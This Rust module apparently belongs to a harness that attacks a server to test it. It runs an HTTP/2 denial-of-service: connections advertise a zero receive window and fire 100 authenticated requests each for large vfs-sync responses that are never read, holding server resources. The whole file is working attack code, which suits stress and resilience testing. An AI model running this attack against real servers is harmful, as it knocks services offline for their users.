//! Requests for large answers over HTTP/2 that give no window to take them.

use std::convert::Infallible;
use std::time::Duration;

use bytes::Bytes;
use futures::future::join_all;

use crate::Failure;
use crate::attack::metadata_quota::note;
use crate::attack::{Target, first};

const CONNECTIONS: usize = 4;
const STREAMS: usize = 100;
const NOTES: usize = 70;
/// The time after which the attacker gives up a connection that the server still holds.
const PATIENCE: Duration = Duration::from_secs(60);

pub(crate) async fn run(on: Target) -> Result<Infallible, Failure> {
    let mut mallory = on.attacker("untaken")?;
    for n in 0..NOTES {
        mallory.push(vec![note(&format!("untaken-{n}"), n)]).await?;
    }
    on.prepared().await;
    let one = async || loop {
        if connection(&on, &mallory.token).await.is_err() {
            on.count("cut", 1);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    first((0..CONNECTIONS).map(|_| one())).await
}

/// Sends as many requests as there are streams; returns when the server ends the connection.
async fn connection(on: &Target, token: &str) -> Result<(), Failure> {
    let stream = on.connect().await?;
    let mut builder = h2::client::Builder::new();
    let (mut h2, connection) = builder.initial_window_size(0).handshake::<_, Bytes>(stream).await?;
    let answers = async {
        let mut answers = Vec::new();
        for _ in 0..STREAMS {
            let uri = format!("{}/v1/vfs/crdt/vfs-sync?limit=500", on.url);
            let request =
                http::Request::get(uri).header("authorization", format!("Bearer {token}"));
            h2 = h2.ready().await?;
            answers.push(h2.send_request(request.body(())?, true)?.0);
        }
        let held = join_all(answers.into_iter().map(async |answer| {
            let answer = answer.await;
            let status = answer.as_ref().map(|answer| answer.status());
            on.count(status.as_ref().map_or("cut", http::StatusCode::as_str), 1);
            answer
        }));
        let _untaken = held.await;
        tokio::time::sleep(PATIENCE).await;
        Ok(())
    };
    tokio::select! {
        ended = connection => Ok(ended?),
        done = answers => done,
    }
}
